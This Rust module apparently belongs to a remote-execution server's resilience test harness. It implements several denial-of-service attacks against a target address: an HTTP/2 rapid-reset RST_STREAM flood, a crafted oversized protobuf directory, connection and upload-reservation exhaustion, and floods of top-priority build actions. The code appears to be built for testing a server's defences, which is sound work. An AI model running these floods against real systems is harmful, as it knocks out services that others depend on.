//! The attacks. Each runs on one thread until its process is killed.

use crate::{
    raw::{self, RST_STREAM},
    target::Client,
};
use futures::stream::{self, StreamExt as _};
use gorego_client::stubs::{
    ByteStreamClient, ContentAddressableStorageClient, ExecutionClient, LogStreamServiceClient,
};
use gorego_reapi::{
    digest::{Digest, DigestFunction},
    proto::{
        bytestream::WriteRequest,
        logstream::CreateLogStreamRequest,
        reapi::{
            BatchReadBlobsRequest, BatchUpdateBlobsRequest, ExecuteRequest, ExecutionPolicy,
            FindMissingBlobsRequest, GetTreeRequest, RequestMetadata, batch_update_blobs_request,
        },
    },
};
use prost::Message as _;
use std::{
    collections::VecDeque,
    io::Write as _,
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};
use tonic::{Request, metadata::MetadataValue, transport::Channel};

/// The first argument of a hostile process.
pub(crate) const SUBCOMMAND: &str = "hostile";
/// A process that is not killed ends by itself after this time.
const LIFETIME: Duration = Duration::from_secs(60);

const PACKAGE: &str = "/build.bazel.remote.execution.v2";

type Attack = fn(SocketAddr);

/// Name, description and function of each attack.
pub(crate) const ATTACKS: &[(&str, &str, Attack)] = &[
    ("none", "none", |_| {}),
    ("resets", "streams opened and cancelled, connection after connection", resets),
    ("unread", "3,000 BatchReadBlobs of 3.9 MB on a connection that is not read", unread),
    ("find", "FindMissingBlobs of 80,000 digests by 50 clients", |server| block_on(find_missing(server))),
    ("decode", "GetTree of a directory of 16 MB with 8 million empty entries, 4 at a time", |server| {
        block_on(decode(server))
    }),
    ("connections", "silent connections, 3,000 at a time", connections),
    ("reservations", "uploads that declare 10 GB each and send a byte, 500 at a time", |server| {
        block_on(reservations(server))
    }),
    ("urgent", "actions of builds of their own with the most urgent priority, 1,000 at a time", |server| {
        block_on(urgent(server))
    }),
    ("streams", "log streams that are created and never finished", |server| block_on(log_streams(server))),
];

/// Runs one attack.
pub(crate) fn attack(name: &str, address: &str) {
    std::thread::spawn(|| {
        std::thread::sleep(LIFETIME);
        std::process::exit(0);
    });
    let server: SocketAddr = address.parse().expect("an address");
    if let Some((_, _, attack)) = ATTACKS.iter().find(|(known, ..)| *known == name) {
        attack(server);
    }
}

fn block_on(attack: impl Future<Output = ()>) {
    tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime").block_on(attack);
}

fn until_the_end(mut step: impl FnMut()) {
    let end = Instant::now() + LIFETIME;
    while Instant::now() < end {
        step();
    }
}

fn resets(server: SocketAddr) {
    let path = format!("{PACKAGE}.Capabilities/GetCapabilities");
    let flood: Vec<u8> = raw::streams()
        .take(50_000)
        .flat_map(|stream| {
            let mut bytes = raw::headers(stream, &path);
            bytes.extend(raw::frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
            bytes
        })
        .collect();
    until_the_end(|| {
        let mut socket = raw::connect_from("127.0.0.1", server);
        let _ = socket.write_all(&raw::preface()).and_then(|()| socket.write_all(&flood));
    });
}

fn unread(server: SocketAddr) {
    let digest = {
        let (sender, receiver) = std::sync::mpsc::channel();
        block_on(async move {
            let data: Vec<u8> =
                (0..3_900_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
            let digest = DigestFunction::Sha256.digest(&data);
            let request = batch_update_blobs_request::Request {
                digest: Some(digest.to_wire()),
                data: data.into(),
                ..Default::default()
            };
            let request = BatchUpdateBlobsRequest { requests: vec![request], ..Default::default() };
            let _ = cas(server).await.batch_update_blobs(request).await;
            let _ = sender.send(digest);
        });
        receiver.recv().expect("a blob")
    };
    let path = format!("{PACKAGE}.ContentAddressableStorage/BatchReadBlobs");
    let request = BatchReadBlobsRequest { digests: vec![digest.to_wire()], ..Default::default() };
    let calls: Vec<u8> =
        raw::streams().take(3_000).flat_map(|stream| raw::call(stream, &path, &request)).collect();
    until_the_end(|| {
        let mut socket = raw::connect_from("127.0.0.1", server);
        let _ = socket.write_all(&raw::preface()).and_then(|()| socket.write_all(&calls));
        std::thread::sleep(Duration::from_secs(2));
    });
}

async fn cas(server: SocketAddr) -> ContentAddressableStorageClient<Channel> {
    let client = ContentAddressableStorageClient::connect(format!("http://{server}")).await;
    client.expect("a connection").max_decoding_message_size(usize::MAX)
}

async fn find_missing(server: SocketAddr) {
    let blob_digests: Vec<_> =
        (0..80_000u32).map(|n| DigestFunction::Sha256.digest(&n.to_be_bytes()).to_wire()).collect();
    let request = FindMissingBlobsRequest { blob_digests, ..Default::default() };
    let mut clients = Vec::new();
    for _ in 0..50 {
        clients.push(cas(server).await);
    }
    let storms = clients.into_iter().map(|mut client| {
        let request = request.clone();
        async move {
            let end = Instant::now() + LIFETIME;
            while Instant::now() < end {
                let _ = client.find_missing_blobs(request.clone()).await;
                tokio::task::yield_now().await;
            }
        }
    });
    futures::future::join_all(storms).await;
}

async fn decode(server: SocketAddr) {
    // A Directory whose node_properties (field 5) are empty properties, two bytes each.
    let properties = [0x0a, 0].repeat(8_000_000);
    let mut directory = vec![0x2a];
    prost::encoding::encode_varint(properties.len() as u64, &mut directory);
    directory.extend(properties);
    let digest = DigestFunction::Sha256.digest(&directory);
    upload(server, digest, directory).await;
    let calls = (0..4).map(|_| async move {
        let mut client = cas(server).await;
        let end = Instant::now() + LIFETIME;
        while Instant::now() < end {
            let request = GetTreeRequest { root_digest: Some(digest.to_wire()), ..Default::default() };
            if let Ok(pages) = client.get_tree(request).await {
                let mut pages = pages.into_inner();
                while let Ok(Some(_)) = pages.message().await {}
            }
            tokio::task::yield_now().await;
        }
    });
    futures::future::join_all(calls).await;
}

async fn upload(server: SocketAddr, digest: Digest, data: Vec<u8>) {
    let data = bytes::Bytes::from(data);
    let name =
        format!("uploads/6ba7b810-9dad-11d1-80b4-00c04fd430c8/blobs/{}/{}", digest.hash_hex(), digest.size());
    let count = data.len().div_ceil(1 << 20);
    let messages: Vec<_> = (0..count)
        .map(|n| {
            let (start, end) = (n << 20, data.len().min((n + 1) << 20));
            WriteRequest {
                resource_name: name.clone(),
                write_offset: start as i64,
                finish_write: end == data.len(),
                data: data.slice(start..end),
            }
        })
        .collect();
    let client = ByteStreamClient::connect(format!("http://{server}")).await;
    let stored = client.expect("a connection").write(stream::iter(messages)).await;
    if let Err(status) = stored {
        eprintln!("the directory was not stored: {status}");
    }
}

/// Repeatedly, so that the server always begins and ends some of them.
async fn reservations(server: SocketAddr) {
    const UPLOADS: u32 = 500;
    const PAUSE: Duration = Duration::from_millis(500);
    let client = ByteStreamClient::connect(format!("http://{server}")).await.expect("a connection");
    let end = Instant::now() + LIFETIME;
    for round in (0u32..).take_while(|_| Instant::now() < end) {
        let uploads = (0..UPLOADS).map(|number| {
            let digest = DigestFunction::Sha256.digest(&[round, number].map(u32::to_be_bytes).concat());
            let message = WriteRequest {
                resource_name: format!(
                    "uploads/6ba7b810-9dad-11d1-80b4-{number:012x}/blobs/{}/10000000000",
                    digest.hash_hex()
                ),
                data: bytes::Bytes::from_static(b"x"),
                ..Default::default()
            };
            let mut client = client.clone();
            async move { client.write(stream::iter([message]).chain(stream::pending())).await }
        });
        let _ = tokio::time::timeout(PAUSE, futures::future::join_all(uploads)).await;
    }
}

async fn urgent(server: SocketAddr) {
    const AT_A_TIME: usize = 1_000;
    let client = Client::connect(&format!("http://{server}")).await;
    let execution = ExecutionClient::connect(format!("http://{server}")).await.expect("a connection");
    let end = Instant::now() + LIFETIME;
    let builds = (0u32..).take_while(|_| Instant::now() < end).map(|number| {
        let (client, mut execution) = (client.clone(), execution.clone());
        async move {
            let action = client.upload_action(&["true"], &number.to_string()).await;
            let mut request = Request::new(ExecuteRequest {
                action_digest: Some(action.to_wire()),
                execution_policy: Some(ExecutionPolicy { priority: i32::MIN }),
                ..Default::default()
            });
            let build = RequestMetadata { tool_invocation_id: number.to_string(), ..Default::default() };
            let build = MetadataValue::from_bytes(&build.encode_to_vec());
            request.metadata_mut().insert_bin("build.bazel.remote.execution.v2.requestmetadata-bin", build);
            if let Ok(operation) = execution.execute(request).await {
                let mut operation = operation.into_inner();
                while let Ok(Some(_)) = operation.message().await {}
            }
        }
    });
    stream::iter(builds).buffer_unordered(AT_A_TIME).for_each(|()| async {}).await;
}

async fn log_streams(server: SocketAddr) {
    let client = LogStreamServiceClient::connect(format!("http://{server}")).await;
    let client = client.expect("a connection");
    let end = Instant::now() + LIFETIME;
    let creations = (0..).take_while(|_| Instant::now() < end).map(|_: u64| {
        let mut client = client.clone();
        async move { client.create_log_stream(CreateLogStreamRequest::default()).await }
    });
    stream::iter(creations).buffer_unordered(100).for_each(|_| async {}).await;
}

fn connections(server: SocketAddr) {
    let mut open: VecDeque<TcpStream> = VecDeque::new();
    until_the_end(|| {
        if open.len() >= 3_000 {
            open.pop_front();
        }
        open.push_back(raw::connect_from("127.0.0.1", server));
    });
}
